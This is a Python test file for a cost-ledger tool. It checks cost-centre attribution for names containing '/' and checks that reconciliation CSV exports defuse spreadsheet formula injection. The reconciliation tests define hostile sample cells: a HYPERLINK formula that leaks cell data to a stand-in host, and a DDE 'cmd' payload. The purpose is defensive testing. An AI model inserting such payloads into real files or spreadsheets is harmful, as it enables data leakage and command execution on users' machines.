"""Cost-centre attribution with names that contain ``/``, and hostile names in
every CSV reconciliation writes.

Tenant ``a/b`` with workload ``c`` and tenant ``a`` with workload ``b/c`` join to
the same string ``a/b/c``; each must be charged to its own cost centre in the
ledger's report and exports and in the reconciliation's chargeback. A flat
mapping key that can stand for both is refused, naming the file and the key.
Expected figures are computed here with plain integers.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import pathlib
from collections import defaultdict
from decimal import Decimal, InvalidOperation

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keel_pdp.cli import main
from keel_pdp.csv_cells import csv_cell, csv_text
from keel_pdp.ledger.events import parse_entry
from keel_pdp.ledger.export import chargeback_rows, focus_rows
from keel_pdp.ledger.mapping import CostMapping, MappingError
from keel_pdp.ledger.report import build_report
from keel_pdp.ledger.store import LedgerStore
from keel_pdp.reconcile import commands
from tests.adversarial.period_book import PICO, Month, Permit, month_start_ms, pid

DAY = 86_400_000
MAR, APR = month_start_ms(2026, 3), month_start_ms(2026, 4)
FORMULA = ("=", "+", "-", "@", "\t", "\r")

# (tenant, workload) -> exact cost of each of its permits, pico-USD (sub-micro parts).
TRAFFIC: dict[tuple[str, str], list[int]] = {
    ("a/b", "c"): [1_500_500_000, 2_000_250_000, 7_000_000],
    ("a", "b/c"): [9_000_500_000, 3_000_000_000],
    ("a/b", ""): [4_000_700_000],
    ("a", "x"): [600_000_000],
}

NESTED = """
default: {cost_center: unallocated, business_unit: unallocated}
tenants:
  a:
    cost_center: CC-A
    business_unit: BU-A
    workloads:
      "b/c": {cost_center: CC-A-bc, business_unit: BU-A}
  "a/b": {cost_center: CC-AB, business_unit: BU-AB}
"""

FLAT_AMBIGUOUS = """
tenants:
  "a/b": {cost_center: CC-AB}
workloads:
  "a/b/c": {cost_center: CC-A-bc}
"""


def cli(args: list[str]) -> int:
    try:
        return main(args)
    except SystemExit as exc:
        return int(exc.code or 0)


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def half_even(pico: int) -> int:
    """Micro-USD from pico-USD, half to even, in integers."""
    q, r = divmod(pico, PICO)
    if 2 * r > PICO or (2 * r == PICO and q % 2):
        q += 1
    return q


def usd(micros: int) -> str:
    sign = "-" if micros < 0 else ""
    whole, frac = divmod(abs(micros), 1_000_000)
    return f"{sign}{whole}.{frac:06d}"


@pytest.fixture
def store(tmp_path: pathlib.Path) -> LedgerStore:
    s = LedgerStore(f"sqlite:///{tmp_path}/ledger.db")
    s.migrate()
    m = Month()
    n = 0
    for (tenant, workload), costs in TRAFFIC.items():
        for cost in costs:
            n += 1
            at = MAR + n * DAY
            m.add(Permit(pid(at, n), tenant, workload, at, 10_000, 10_000, "settled", cost))
    for e in sorted(m.entries, key=lambda e: e.arrives_ms):
        s.write_batch([parse_entry(e.event_id, e.fields)], at_ms=e.arrives_ms)
    return s


def expected_charges() -> dict[tuple[str, str], int]:
    return {pair: half_even(sum(costs)) for pair, costs in TRAFFIC.items()}


def test_slash_names_are_charged_to_their_own_cost_centres(
        store: LedgerStore, tmp_path: pathlib.Path) -> None:
    path = tmp_path / "costcenters.yaml"
    path.write_text(NESTED)
    mapping = CostMapping.load(path)
    want_cc = {("a/b", "c"): "CC-AB", ("a", "b/c"): "CC-A-bc", ("a/b", ""): "CC-AB",
               ("a", "x"): "CC-A"}
    # The chargeback export through the command line.
    out = tmp_path / "chargeback.csv"
    assert cli(["export", "--store", store.url, "--period", "2026-03", "--format", "csv",
                "--out", str(out), "--mapping", str(path)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    got = {(r["tenant"], r["workload"]): (r["cost_center"], r["charge_usd"]) for r in rows}
    assert got == {pair: (want_cc[pair], usd(m)) for pair, m in expected_charges().items()}
    per_cc: dict[str, int] = defaultdict(int)
    for pair in TRAFFIC:
        per_cc[want_cc[pair]] += sum(TRAFFIC[pair])
    # Grouped by cost centre only: each centre's exact sum, rounded once.
    _, by_cc = chargeback_rows(store, "2026-03", mapping, ["cost_center"])
    assert {r[3]: r[-4] for r in by_cc} == {cc: usd(half_even(p)) for cc, p in per_cc.items()}
    # The report agrees.
    report = build_report(store, "2026-03", ["cost_center", "tenant", "workload"], mapping,
                          as_of_ms=APR)
    assert {(t, w): cc for (cc, t, w) in report.groups} == want_cc
    # FOCUS: the cost centre per row, and a ResourceId that names one resource only.
    header, focus = focus_rows(store, "2026-03", mapping)
    col = {name: i for i, name in enumerate(header)}
    ids: dict[str, set[tuple[str, str]]] = defaultdict(set)
    for r in focus:
        pair = (r[col["x_Tenant"]], r[col["x_Workload"]])
        assert r[col["x_CostCenter"]] == want_cc[pair]
        ids[r[col["ResourceId"]]].add(pair)
    assert all(len(pairs) == 1 for pairs in ids.values()), ids
    assert ids["a%2Fb/c"] == {("a/b", "c")} and ids["a/b%2Fc"] == {("a", "b/c")}


def test_an_ambiguous_flat_key_is_refused_naming_file_and_key(
        store: LedgerStore, tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "flat.yaml"
    path.write_text(FLAT_AMBIGUOUS)
    for args in (["export", "--format", "csv", "--out", str(tmp_path / "x.csv")],
                 ["export", "--format", "focus", "--out", str(tmp_path / "y.csv")],
                 ["ledger", "report"]):
        capsys.readouterr()
        assert cli([*args, "--store", store.url, "--period", "2026-03",
                    "--mapping", str(path)]) == 2, args
        err = capsys.readouterr().err
        assert str(path) in err and "workloads.a/b/c" in err and "ambiguous" in err, err
    assert not (tmp_path / "x.csv").exists() and not (tmp_path / "y.csv").exists()
    with pytest.raises(MappingError, match=r"flat\.yaml: workloads\.a/b/c: ambiguous"):
        chargeback_rows(store, "2026-03", CostMapping.load(path))


def test_flat_keys_still_work_and_bad_ones_are_refused(
        store: LedgerStore, tmp_path: pathlib.Path) -> None:
    path = tmp_path / "m.yaml"
    # One "/": exactly that pair. Several, when the ledger holds only one of the
    # pairs the key can stand for: that pair.
    path.write_text("tenants:\n  a: {cost_center: CC-A}\nworkloads:\n"
                    "  a/x: {cost_center: CC-AX}\n  a/b/c/d: {cost_center: CC-NONE}\n")
    _, rows = chargeback_rows(store, "2026-03", CostMapping.load(path),
                              ["cost_center", "tenant", "workload"])
    got = {(r[4], r[5]): r[3] for r in rows}
    assert got == {("a/b", "c"): "unallocated", ("a", "b/c"): "CC-A",
                   ("a/b", ""): "unallocated", ("a", "x"): "CC-AX"}
    path.write_text("workloads:\n  a/b/c: {cost_center: CC-X}\n")
    only = CostMapping.load(path).resolve([("a", "b/c")])
    assert only.allocate("a", "b/c").cost_center == "CC-X"
    assert only.allocate("a/b", "c").cost_center == "unallocated"
    for text, why in [
            ("workloads:\n  acme: {cost_center: CC-1}\n", "workloads.acme: a flat key"),
            ("tenants:\n  a: {workloads: {x: {cost_center: CC-1}}}\n"
             "workloads:\n  a/x: {cost_center: CC-2}\n", "workloads.a/x: tenant 'a'"),
            ("tenants:\n  a: {business_unit: BU}\n", "tenants.a: Value error")]:
        path.write_text(text)
        with pytest.raises(MappingError, match=why.replace(".", r"\.")):
            CostMapping.load(path).resolve([])
    assert cli(["export", "--store", store.url, "--period", "2026-03", "--format", "csv",
                "--out", str(tmp_path / "z.csv"), "--mapping", str(path)]) == 2


# ------------------------------------------------------------- reconciliation
HOSTILE_TENANT = '=HYPERLINK("http://x.example/?"&A1,"click")'
HOSTILE_WORKLOAD = "@SUM(A1:A9)"
HOSTILE_DESCRIPTION = "+1+cmd|' /C calc'!A0"
QUOTED_TENANT = "'-quoted"
# account -> (tenant, workload, cost centre, [(day, input tokens, output tokens,
# input cost micros, output cost micros)])
ACCOUNTS = {
    "acct-ab": ("a/b", "c", "CC-AB", [(3, 1000, 200, 1_250, 2_400), (9, 10, 5, 13, 7)]),
    "acct-a": ("a", "b/c", "CC-A-bc", [(4, 3000, 100, 3_750, 1_200)]),
    "acct-h": (HOSTILE_TENANT, HOSTILE_WORKLOAD, "-CC", [(5, 100, 10, 125, 120)]),
    "acct-q": (QUOTED_TENANT, "w", "CC-Q", [(6, 40, 4, 50, 48)]),
}


def reconcile_main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="keel-pdp")
    commands.register(parser.add_subparsers(dest="command", required=True))
    ns = parser.parse_args(argv)
    return int(ns.func(ns))


def write_month(folder: pathlib.Path) -> list[str]:
    folder.mkdir()
    prov = io.StringIO()
    w = csv.writer(prov, lineterminator="\n")
    w.writerow(["Date", "Account", "Model", "Meter", "Tokens", "Cost", "Currency",
                "Description"])
    internal = io.StringIO()
    iw = csv.writer(internal, lineterminator="\n")
    iw.writerow(["ts", "tenant", "workload", "provider", "model", "account", "input_tokens",
                 "output_tokens", "cost_micros", "input_cost_micros",
                 "cached_input_cost_micros", "cache_write_cost_micros",
                 "output_cost_micros", "permit_id"])
    n = 0
    for account, (tenant, workload, _, days) in ACCOUNTS.items():
        for day, tin, tout, cin, cout in days:
            n += 1
            date = f"2026-03-{day:02d}"
            w.writerow([date, account, "m1", "Input", tin, usd(cin), "USD",
                        HOSTILE_DESCRIPTION])
            w.writerow([date, account, "m1", "Output", tout, usd(cout), "USD", "plain"])
            # A tenant that starts with "'" is written as the product writes it ("''...");
            # the others raw, as telemetry that never passed through a spreadsheet.
            cell = "'" + tenant if tenant.startswith("'") else tenant
            iw.writerow([f"{date}T12:00:00Z", cell, workload, "p1", "m1", account, tin,
                         tout, cin + cout, cin, 0, 0, cout, f"pmt-{n}"])
    (folder / "provider.csv").write_text(prov.getvalue(), encoding="utf-8")
    (folder / "internal.csv").write_text(internal.getvalue(), encoding="utf-8")
    (folder / "columns.yaml").write_text(
        "apiVersion: keel.pdp/v1\nkind: ColumnMap\nprovider: p1\n"
        "columns:\n  date: Date\n  account: Account\n  model: Model\n  token_type: Meter\n"
        "  tokens: Tokens\n  cost: Cost\n  currency: Currency\n  description: Description\n"
        "token_types: {Input: input, Output: output}\n")
    mapping = {
        "apiVersion": "keel.pdp/v1", "kind": "ReconcileMapping",
        "finance_owner": "Fin Owner", "ai_program_lead": "AI Lead",
        "accounts": [{"provider": "p1", "account": a, "tenant": t, "workload": wl}
                     for a, (t, wl, _, _) in ACCOUNTS.items()],
        "workloads": [{"tenant": t, "workload": wl, "engineering_owner": f"Owner {i}",
                       "cost_center": cc}
                      for i, (t, wl, cc, _) in enumerate(ACCOUNTS.values())],
    }
    (folder / "mapping.yaml").write_text(json.dumps(mapping), encoding="utf-8")
    return ["--period", "2026-03", "--provider", "csv", "--export",
            str(folder / "provider.csv"), "--column-map", str(folder / "columns.yaml"),
            "--mapping", str(folder / "mapping.yaml")]


def test_reconciliation_charges_slash_names_exactly_and_keeps_hostile_names_text(
        tmp_path: pathlib.Path) -> None:
    args = write_month(tmp_path / "in")
    out = tmp_path / "out"
    assert reconcile_main(["reconcile", "--internal", str(tmp_path / "in" / "internal.csv"),
                           *args, "--out", str(out)]) == 0
    folder = out / "2026-03" / "p1"
    texts = {p.name: p.read_text(encoding="utf-8") for p in folder.glob("*.csv")}
    assert {"chargeback.csv", "line_items.csv", "provider_export.csv",
            "internal_usage.csv"} <= set(texts)
    for name, text in texts.items():
        for row in csv.reader(io.StringIO(text)):
            for c in row:
                if c.startswith(FORMULA):  # only numbers start so
                    assert is_number(c), (name, c)
    assert "'" + HOSTILE_DESCRIPTION in [
        c for row in csv.reader(io.StringIO(texts["provider_export.csv"])) for c in row]
    usage = list(csv.DictReader(io.StringIO(texts["internal_usage.csv"])))
    assert {(r["tenant"], r["workload"]) for r in usage} == {
        ("a/b", "c"), ("a", "b/c"), ("'" + HOSTILE_TENANT, "'" + HOSTILE_WORKLOAD),
        ("'" + QUOTED_TENANT, "w")}
    assert "''-quoted" in texts["internal_usage.csv"]
    charged = list(csv.DictReader(io.StringIO(texts["chargeback.csv"])))
    want = {(t, wl): (cc, sum(ci + co for _, _, _, ci, co in days))
            for t, wl, cc, days in ACCOUNTS.values()}
    shown = {("'" + HOSTILE_TENANT, "'" + HOSTILE_WORKLOAD): (HOSTILE_TENANT,
                                                              HOSTILE_WORKLOAD),
             ("'" + QUOTED_TENANT, "w"): (QUOTED_TENANT, "w")}
    got = {shown.get((r["tenant"], r["workload"]), (r["tenant"], r["workload"])):
           (r["cost_center"].removeprefix("'"), int(r["amount_micros"])) for r in charged}
    assert got == want
    assert {r["cost_center"] for r in charged} >= {"'-CC", "CC-AB", "CC-A-bc"}
    # The folder's own internal_usage.csv reconciles again as the same names.
    again = tmp_path / "again"
    assert reconcile_main(["reconcile", "--internal", str(folder / "internal_usage.csv"),
                           *args, "--out", str(again)]) == 0
    assert (again / "2026-03" / "p1" / "chargeback.csv").read_text(
        encoding="utf-8") == texts["chargeback.csv"]


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r0123456789.ab /"), max_size=8))
def test_the_csv_cell_rule_is_undone_exactly(text: str) -> None:
    cell = csv_cell(text)
    assert csv_text(cell) == text
    assert not cell.startswith(FORMULA) or is_number(cell)
